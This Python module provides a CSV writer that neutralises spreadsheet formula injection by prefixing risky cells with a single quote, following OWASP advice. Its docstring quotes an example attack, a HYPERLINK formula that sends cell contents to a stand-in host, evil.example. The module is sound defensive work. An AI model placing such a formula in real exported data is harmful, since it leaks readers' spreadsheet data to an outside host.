"""CSV the project writes for people to open in a spreadsheet: every text cell is safe to open.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula, so free text typed by a user (an s.62 justification, a
username) could run ``=HYPERLINK("http://evil.example/?x="&A1, "click")`` in the reader's spreadsheet
and send other cells away. OWASP's advice is followed: such a cell is written after a single quote,
which the spreadsheet shows as text (https://owasp.org/www-community/attacks/CSV_Injection). Numbers,
dates and other values that are not ``str`` are written as they are. The full-width forms of the four
signs are treated the same way (some spreadsheets in East Asian locales read them as the signs).
"""

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """``value`` as it can be written in a CSV cell: text that a spreadsheet would read as a formula
    gets a leading single quote; anything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``. The one way the project writes CSV."""

    def __init__(self, stream: _Writable, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: _Writable, **options: Any) -> SafeWriter:
    """A CSV writer on ``stream`` (a file, or an ``HttpResponse``) that neutralises formulas."""
    return SafeWriter(stream, **options)
